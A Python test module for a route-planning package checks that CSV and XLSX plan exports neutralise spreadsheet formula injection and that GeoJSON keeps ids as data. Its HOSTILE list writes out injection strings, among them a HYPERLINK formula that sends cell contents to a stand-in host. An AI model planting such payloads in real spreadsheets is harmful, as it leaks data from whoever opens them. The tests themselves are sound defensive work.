"""Plan sheets (CSV, XLSX) show hostile ids as text and never as formulas; GeoJSON keeps data."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from tests.io.conftest import DAY, ZhengzhouLocator

from routeplan.domain.clock import TimeWindow
from routeplan.domain.plan import Plan
from routeplan.domain.policy import Policy
from routeplan.domain.team import Team
from routeplan.domain.visit import Visit
from routeplan.io.plan_exports import (
    CSV_COLUMNS,
    HEADERS_ZH,
    plan_rows,
    plan_to_csv,
    plan_to_geojson,
    plan_to_xlsx,
)
from routeplan.io.spreadsheet import csv_text, looks_like_formula
from routeplan.solver.solve import SolveOptions, solve
from routeplan.workflows.build import build_problem

#: Each a formula to Excel or LibreOffice, or one after the spaces and quotes they skip.
HOSTILE = ['=HYPERLINK("http://x/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1",
           "\r=1", " =1", '"=1', "'=1", "　=1", "＝1", "=1\n=2"]
#: Look odd, but no spreadsheet takes them for a formula.
PLAIN = ["V1", "a=b", "1-2", "x@y", "张三", "'quoted'", ""]
_ORACLE = re.compile(r"^[\s'\"‘’“”]*[=+\-@＝＋－＠]")


def _formula(text: str) -> bool:
    """The rule, written again independently: tab/CR first, or a trigger after skipped chars."""
    return text[:1] in ("\t", "\r") or _ORACLE.match(text) is not None


@given(st.text(alphabet=st.sampled_from("=+-@\t\r '\"‘“＝　aZ1张;,\n"), max_size=8) | st.text())
def test_csv_text_prefixes_exactly_the_formulas(text: str) -> None:
    """A formula-looking cell gets one leading quote; any other cell is left as it is."""
    out = csv_text(text)
    assert out == ("'" + text if _formula(text) else text)
    assert looks_like_formula(text) == _formula(text)


@pytest.fixture(scope="module")
def hostile_plan() -> Plan:
    """A solved day whose ids and members are formulas, plus plain ids beside them."""
    base = (113.6254, 34.7466)
    ids = HOSTILE + [p for p in PLAIN if p]
    visits = [Visit(vid, f"B{vid}", (base[0] + 0.002 * i, base[1] + 0.001 * (i % 4)))
              for i, vid in enumerate(ids, start=1)]
    visits.append(Visit("=DNV()", "@B", (113.60, 34.72), do_not_visit=True))
    teams = [Team("=T1", ("=C1", "@C2"), base, TimeWindow(8 * 3600, 20 * 3600)),
             Team("T2", ("C3", "-C4"), (113.63, 34.75), TimeWindow(8 * 3600, 20 * 3600))]
    problem = build_problem(DAY, visits, teams, Policy(), locator=ZhengzhouLocator())
    plan = solve(problem, SolveOptions(time_limit_s=1, solution_limit=50))
    assert plan.unassigned, "the do-not-visit case is among the rows"
    return plan


def test_csv_cells_from_input_are_neutralised_numbers_stay_numbers(hostile_plan: Plan) -> None:
    """Read back, every text cell is its value (with one quote when it looked like a formula)."""
    rows = list(csv.reader(io.StringIO(plan_to_csv(hostile_plan), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    raw = list(plan_rows(hostile_plan))
    assert len(rows) - 1 == len(raw) == len(hostile_plan.visit_ids())
    numeric = {CSV_COLUMNS.index(c) for c in ("sequence", "lat", "lon", "service_min",
                                               "travel_m")}
    formulas = 0
    for got, want in zip(rows[1:], raw, strict=True):
        for i, (cell, value) in enumerate(zip(got, want, strict=True)):
            if isinstance(value, str):
                assert cell == ("'" + value if _formula(value) else value)
                formulas += _formula(value)
                assert not _formula(cell) or cell.startswith("'")
            elif value is not None:
                assert i in numeric
                assert float(cell) == value
    assert formulas >= len(HOSTILE)


def test_csv_has_chinese_headers_on_request(hostile_plan: Plan) -> None:
    header = next(csv.reader(io.StringIO(plan_to_csv(hostile_plan, header="zh"))))
    assert header == [HEADERS_ZH[c] for c in CSV_COLUMNS]
    assert header[:4] == ["外访组", "组员", "顺序", "案件编号"]


def test_xlsx_cells_are_text_with_excels_quote_prefix(hostile_plan: Plan) -> None:
    """No formula in the workbook; input cells are text, formula-looking ones quote-prefixed."""
    data = plan_to_xlsx(hostile_plan)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # not a single formula cell
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == [HEADERS_ZH[c] for c in CSV_COLUMNS]
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width == 12
    assert ws.column_dimensions["Q"].width == 48
    raw = list(plan_rows(hostile_plan))
    assert len(rows) - 1 == len(raw)
    for cells, want in zip(rows[1:], raw, strict=True):
        for cell, value in zip(cells, want, strict=False):
            if value is None or value == "":
                assert cell.value is None
            elif isinstance(value, str):
                assert cell.data_type == "s"
                # the text itself, no quote added to it (XML reads a CR back as a newline)
                assert cell.value == value.replace("\r", "\n")
                assert bool(cell.quotePrefix) == _formula(value)
            else:
                assert cell.data_type == "n"
                assert cell.value == value


def test_geojson_keeps_values_as_data(hostile_plan: Plan) -> None:
    """GeoJSON is data for programs: valid JSON, the ids exactly as given."""
    text = json.dumps(plan_to_geojson(hostile_plan), ensure_ascii=False)
    fc = json.loads(text)
    stops = {f["properties"]["visit_id"] for f in fc["features"]
             if f["properties"]["kind"] == "stop"}
    routed = {s.visit_id for r in hostile_plan.routes for s in r.stops}
    assert stops == routed
    assert any(v in stops for v in HOSTILE)
